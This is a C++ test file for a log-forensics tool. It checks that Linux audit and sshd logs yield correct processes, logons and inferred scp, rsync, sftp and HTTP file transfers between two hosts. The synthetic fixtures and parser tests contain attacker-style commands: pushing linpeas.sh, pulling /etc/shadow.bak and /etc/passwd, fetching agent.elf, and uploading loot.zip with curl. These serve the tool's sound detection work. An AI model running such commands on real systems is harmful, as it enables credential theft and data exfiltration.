// Linux normalisation and the SSH / pull rules on a hand-written two-host case (tests/fixtures/
// linux/make_fixtures.py): web01's raw audit log and journald export, db01's audit log and
// rsyslog auth.log. Checks the canonical rows (auditd processes with pid / ppid / ses, sshd and
// audit logons with source address and end, connect(), the host addresses sshd teaches),
// process ancestry over auditd rows, and the transfers: scp and rsync over ssh (both ends merged
// into one), curl / wget pulls from internal hosts, none from a public address.

#include "SshRecording.h"
#include "TestSupport.h"

#include "core/ImportEngine.h"
#include "inference/CommandParser.h"
#include "inference/InferenceEngine.h"
#include "inference/TransferQuery.h"
#include "query/AncestryQuery.h"
#include "store/CaseStore.h"
#include "store/Sqlite.h"

#include <QTemporaryDir>
#include <QTest>

using namespace tt;

namespace {
const inference::TransferRow *byFile(const std::vector<inference::TransferRow> &rows, const std::string &file)
{
    for (const auto &r : rows)
        if (r.file == file)
            return &r;
    return nullptr;
}
} // namespace

class TstLinuxInference : public QObject {
    Q_OBJECT
private:
    QTemporaryDir m_dir;
    std::unique_ptr<store::CaseStore> m_case;
    std::vector<inference::TransferRow> m_rows;

    int64_t q(const std::string &sql) { return m_case->db().queryInt(sql.c_str()); }
    std::string text(const std::string &sql)
    {
        auto st = m_case->db().prepare(sql.c_str());
        return st.step() && !st.isNull(0) ? st.text(0) : std::string("<null>");
    }
    std::string roles(int64_t transferId)
    {
        return text(
            "SELECT group_concat(role, ',') FROM (SELECT DISTINCT role FROM transfer_evidence WHERE transfer_id="
            + std::to_string(transferId) + " ORDER BY role)");
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_case = store::CaseStore::open(
            m_dir.filePath(QStringLiteral("linux.ttcase")).toStdString(), store::CaseStore::Access::Create);
        std::vector<std::string> inputs;
        for (const char *f : {"web01-audit.log", "db01-audit.log", "db01-auth.log", "web01-journal.json"})
            inputs.push_back(QString(test::fixturesDir() + QStringLiteral("/linux/") + QLatin1String(f)).toStdString());
        ImportEngine engine(*m_case, {});
        const ImportSummary s = engine.run(inputs);
        QCOMPARE(s.count(FileReport::Status::Imported), size_t(4));
        QCOMPARE(s.rejected(), int64_t(0));
        for (const FileReport &f : s.files)
            QVERIFY2(f.format == "linux-audit" || f.format == "syslog" || f.format == "journald", f.format.c_str());
        inference::InferenceEngine(*m_case).run();
        m_rows = inference::listTransfers(*m_case, {});
    }

    void processes()
    {
        QCOMPARE(q("SELECT count(*) FROM processes p JOIN hosts h ON h.id=p.host_id WHERE h.name='WEB01' AND "
                   "origin='auditd'"),
            int64_t(7));
        QCOMPARE(text("SELECT command_line || '|' || parent_pid || '|' || logon_id || '|' || current_directory || '|' "
                      "|| image "
                      "FROM processes WHERE pid=2101"),
            std::string("scp -O -i /root/.ssh/id_ed25519 /tmp/.x/linpeas.sh "
                        "root@10.20.0.12:/var/tmp/|2000|12|/root|/usr/bin/scp"));
        QCOMPARE(text("SELECT a.domain || '\\' || a.name FROM processes p JOIN accounts a ON a.id=p.account_id WHERE "
                      "p.pid=2101"),
            std::string("WEB01\\root"));
        // bash -c 'scp -t' exec'd in place: two rows with one pid, the later one is scp.
        QCOMPARE(q("SELECT count(*) FROM processes WHERE pid=3300"), int64_t(2));
    }

    void logonsAndAddresses()
    {
        QCOMPARE(q("SELECT count(*) FROM logon_sessions l JOIN hosts h ON h.id=l.host_id WHERE h.name='DB01' AND "
                   "origin='sshd' AND outcome='success' AND source_ip='10.20.0.11'"),
            int64_t(2));
        QCOMPARE(text("SELECT source_port || '|' || logon_id || '|' || auth_package || '|' || (end_ts > ts) FROM "
                      "logon_sessions "
                      "WHERE origin='sshd' AND source_port=51514"),
            std::string("51514|sshd:3290|publickey|1"));
        QCOMPARE(
            text("SELECT a.name FROM logon_sessions l JOIN accounts a ON a.id=l.account_id WHERE outcome='failure'"),
            std::string("oracle"));
        QCOMPARE(text("SELECT logon_id || '|' || source_ip || '|' || (end_ts IS NOT NULL) FROM logon_sessions WHERE "
                      "origin='auditd' AND logon_id='21'"),
            std::string("21|10.20.0.11|1"));
        QCOMPARE(text("SELECT group_concat(x, ' ') FROM (SELECT h.name || '=' || a.address || ':' || a.how AS x FROM "
                      "host_addresses a JOIN hosts h ON h.id=a.host_id ORDER BY h.name)"),
            std::string("DB01=10.20.0.12:sshd-local WEB01=10.20.0.11:sshd-local"));
        QCOMPARE(text("SELECT dst_ip || ':' || dst_port || '|' || image FROM net_connections"),
            std::string("10.20.0.12:22|/usr/bin/ssh"));
    }

    void ancestryOverAuditdProcesses()
    {
        const int64_t ssh = q("SELECT p.id FROM processes p WHERE pid=2102");
        const ProcessChain c = queryAncestry(m_case->db(), ssh);
        QVERIFY(c.error.isEmpty());
        QCOMPARE(c.chain.size(), size_t(3));
        QCOMPARE(c.chain[0].pid, int64_t(2000));
        QCOMPARE(c.chain[1].image, QStringLiteral("/usr/bin/scp"));
        QCOMPARE(c.chain[2].pid, int64_t(2102));
        QCOMPARE(c.chain[2].origin, QStringLiteral("auditd"));
        QCOMPARE(queryChildren(m_case->db(), c.chain[0].id).size(), size_t(4)); // scp, rsync, two wgets
    }

    void scpPushBothEnds()
    {
        const auto *t = byFile(m_rows, "linpeas.sh");
        QVERIFY(t);
        QCOMPARE(t->source, std::string("WEB01"));
        QCOMPARE(t->destination, std::string("DB01"));
        QCOMPARE(t->sourceIp, std::string("10.20.0.11"));
        QCOMPARE(t->method, std::string("scp"));
        QCOMPARE(t->direction, std::string("push"));
        QCOMPARE(t->path, std::string("/var/tmp/linpeas.sh"));
        QCOMPARE(t->srcPath, std::string("/tmp/.x/linpeas.sh"));
        QCOMPARE(t->account, std::string("DB01\\root")); // the account of the ssh login on db01
        QCOMPARE(t->confidenceLabel, std::string("high"));
        QCOMPARE(roles(t->id), std::string("dst-command,dst-logon,src-command,src-connect,src-parent"));
        // The server process is evidence of this transfer, not a transfer of its own.
        QCOMPARE(q("SELECT count(*) FROM transfers WHERE file_name LIKE '%tmp%'"), int64_t(0));
    }

    void rsyncOverSsh()
    {
        const auto *t = byFile(m_rows, "dump.tar.gz");
        QVERIFY(t);
        QCOMPARE(t->source, std::string("WEB01"));
        QCOMPARE(t->destination, std::string("DB01"));
        QCOMPARE(t->method, std::string("rsync"));
        QCOMPARE(t->path, std::string("/backup/dump.tar.gz"));
        QCOMPARE(roles(t->id), std::string("dst-command,dst-logon,src-command,src-parent"));
    }

    void httpPullsFromInternalHosts()
    {
        const auto *agent = byFile(m_rows, "agent.elf");
        QVERIFY(agent);
        QCOMPARE(agent->source, std::string("WEB01")); // 10.20.0.11, learned from web01's own sshd
        QCOMPARE(agent->destination, std::string("DB01"));
        QCOMPARE(agent->method, std::string("http"));
        QCOMPARE(agent->direction, std::string("pull"));
        QCOMPARE(agent->path, std::string("/tmp/agent.elf"));
        const auto *py = byFile(m_rows, "collect.py");
        QVERIFY(py);
        QCOMPARE(py->source, std::string("DB01"));
        QCOMPARE(py->destination, std::string("WEB01"));
        QCOMPARE(py->path, std::string("/tmp/collect.py"));
        QVERIFY(!byFile(m_rows, "update.sh")); // a public address is the internet, not a peer
        QCOMPARE(m_rows.size(), size_t(4));
    }

    // Server side only (no telemetry of the client): `scp -t FILE` receives from the login's
    // address, `scp -f FILE` sends to it (a pull by the client), a folder target names no file.
    void serverSideOnly()
    {
        auto line = [](double sec, int serial, const std::string &type, const std::string &body) {
            char st[64];
            std::snprintf(st, sizeof st, "msg=audit(%.3f:%d):", 1772618400.0 + sec, serial);
            return "node=files01 type=" + type + " " + st + " " + body + "\n";
        };
        auto exec = [&](double sec, int serial, int pid, const std::string &argv) {
            return line(sec, serial, "SYSCALL",
                       "arch=c000003e syscall=59 success=yes exit=0 ppid=" + std::to_string(pid - 1) + " pid="
                           + std::to_string(pid) + " auid=1001 uid=1001 ses=31 comm=\"scp\" exe=\"/usr/bin/scp\"")
                + line(sec, serial, "EXECVE", argv) + line(sec, serial, "EOE", "");
        };
        std::string audit;
        audit += line(1, 1, "USER_LOGIN",
            "pid=700 uid=0 auid=1001 ses=31 msg='op=login id=1001 exe=\"/usr/sbin/sshd\" "
            "hostname=192.0.2.50 addr=192.0.2.50 terminal=ssh res=success'");
        audit += line(1.01, 2, "USER_START",
            "pid=700 uid=0 auid=1001 ses=31 msg='op=PAM:session_open acct=\"svc_backup\" "
            "exe=\"/usr/sbin/sshd\" hostname=192.0.2.50 addr=192.0.2.50 terminal=ssh res=success'");
        audit += exec(2, 3, 710, "argc=3 a0=\"scp\" a1=\"-t\" a2=\"/srv/drop/payload.so\"");
        audit += exec(3, 4, 720, "argc=3 a0=\"scp\" a1=\"-f\" a2=\"/etc/shadow.bak\"");
        audit += exec(4, 5, 730, "argc=4 a0=\"scp\" a1=\"-r\" a2=\"-t\" a3=\"/srv/drop/\"");
        const QString path = m_dir.filePath(QStringLiteral("files01-audit.log"));
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(audit.data(), qint64(audit.size()));
        f.close();
        auto cs = store::CaseStore::open(
            m_dir.filePath(QStringLiteral("server.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine engine(*cs, {});
        QCOMPARE(engine.run({path.toStdString()}).rejected(), int64_t(0));
        inference::InferenceEngine(*cs).run();
        const auto rows = inference::listTransfers(*cs, {});
        QCOMPARE(rows.size(), size_t(2));
        const auto *in = byFile(rows, "payload.so");
        QVERIFY(in);
        QCOMPARE(in->destination, std::string("FILES01"));
        QCOMPARE(in->source, std::string("192.0.2.50")); // an IP-only host: the login's address
        QCOMPARE(in->sourceIp, std::string("192.0.2.50"));
        QCOMPARE(in->direction, std::string("push"));
        QCOMPARE(in->method, std::string("scp"));
        QCOMPARE(in->path, std::string("/srv/drop/payload.so"));
        QCOMPARE(in->account, std::string("FILES01\\svc_backup")); // auid 1001, named by USER_START
        const auto *out = byFile(rows, "shadow.bak");
        QVERIFY(out);
        QCOMPARE(out->source, std::string("FILES01"));
        QCOMPARE(out->destination, std::string("192.0.2.50"));
        QCOMPARE(out->direction, std::string("pull"));
        QCOMPARE(out->srcPath, std::string("/etc/shadow.bak"));
    }

    void sftpGetIsAPull()
    {
        // sftp-server (-l INFO) on db01 logs a client's `get /etc/hostname`: opened READ, closed
        // with "bytes read 3 written 0". A READ opened and closed with nothing read is no transfer.
        auto cs = store::CaseStore::open(
            m_dir.filePath(QStringLiteral("sftpget.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine engine(*cs, {});
        const ImportSummary s
            = engine.run({QString(test::fixturesDir() + QStringLiteral("/linux/sftp-get-auth.log")).toStdString()});
        QCOMPARE(s.rejected(), int64_t(0));
        inference::InferenceEngine(*cs).run();
        const auto rows = inference::listTransfers(*cs, {});
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.file, std::string("hostname"));
        QCOMPARE(r.srcPath, std::string("/etc/hostname"));
        QCOMPARE(r.source, std::string("DB01")); // the server holding the file
        QCOMPARE(r.destination, std::string("10.20.0.15")); // the client that fetched it (IP-only)
        QCOMPARE(r.direction, std::string("pull"));
        QCOMPARE(r.method, std::string("sftp"));
        QCOMPARE(r.account, std::string("DB01\\deploy"));
        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM transfer_evidence WHERE role='src-read'"), int64_t(1));
    }

    void linuxCommandLines()
    {
        using inference::CommandParser;
        auto one = [](const char *cmd) {
            const auto v = CommandParser::parse(cmd);
            return v.size() == 1 ? v[0] : inference::ParsedMove {};
        };
        auto m = one("wget -q -O /tmp/x.py http://db01/collect.py");
        QCOMPARE(m.host, std::string("db01"));
        QCOMPARE(m.fileName, std::string("x.py"));
        QVERIFY(!m.push);
        m = one("wget -P /opt http://10.0.0.5:8080/a/b/tool.tar.gz");
        QCOMPARE(m.localPath, std::string("/opt/tool.tar.gz"));
        m = one("curl -fsSL http://10.0.0.5/install.sh");
        QCOMPARE(m.fileName, std::string("install.sh"));
        QVERIFY(!m.push);
        m = one("curl -T /tmp/loot.zip http://10.0.0.5/up/");
        QVERIFY(m.push);
        m = one("scp user@10.0.0.9:/etc/passwd .");
        QCOMPARE(m.fileName, std::string("passwd")); // no extension, but "." is plainly a folder
        QVERIFY(!m.push);
        m = one("scp /tmp/agent root@h2:/tmp/");
        QCOMPARE(m.remotePath, std::string("/tmp/agent"));
        QVERIFY(CommandParser::parse("scp /tmp/agent root@h2:/tmp/agent2").empty()); // folder or file: unknown
        m = one("scp -P 2222 -r /tmp/a.bin root@h2:/var/tmp/b.bin");
        QCOMPARE(m.fileName, std::string("b.bin"));
        QCOMPARE(m.remotePath, std::string("/var/tmp/b.bin"));
        m = one("scp root@h2:/var/tmp/b.bin /root/");
        QVERIFY(!m.push);
        QCOMPARE(m.localPath, std::string("/root/b.bin"));
        m = one("sftp -b /tmp/batch root@h3");
        QCOMPARE(m.host, std::string("h3"));
        QVERIFY(m.fileName.empty());
        m = one("sftp admin@h4:/srv/report.pdf /tmp");
        QCOMPARE(m.fileName, std::string("report.pdf"));
        QCOMPARE(m.localPath, std::string("/tmp/report.pdf"));
        QVERIFY(!m.push);
        m = one("bash -c \"rsync -az -e 'ssh -p 22' /data/x.tgz bk@h5:/backup/\"");
        QCOMPARE(m.tool, std::string("rsync"));
        QCOMPARE(m.remotePath, std::string("/backup/x.tgz"));
    }

    // What real sshd 9.2 (LogLevel VERBOSE) and sftp-server (-l INFO) wrote for scp, scp -O,
    // sftp -b and rsync -e ssh between two network namespaces (tst_linux_ssh_recording with
    // TT_RECORD_OUT), with the client-side audit log written for the recorded commands.
    void recordedSshdLog()
    {
        auto cs = store::CaseStore::open(
            m_dir.filePath(QStringLiteral("recorded.ttcase")).toStdString(), store::CaseStore::Access::Create);
        ImportEngine engine(*cs, {});
        const std::string dir = QString(test::fixturesDir() + QStringLiteral("/linux/")).toStdString();
        const ImportSummary s = engine.run({dir + "recorded-auth.log", dir + "recorded-client-audit.log"});
        QCOMPARE(s.count(FileReport::Status::Imported), size_t(2));
        QCOMPARE(s.rejected(), int64_t(0));
        sshrec::checkRecordedCase(*cs);
    }
};

QTEST_GUILESS_MAIN(TstLinuxInference)
#include "tst_linux_inference.moc"
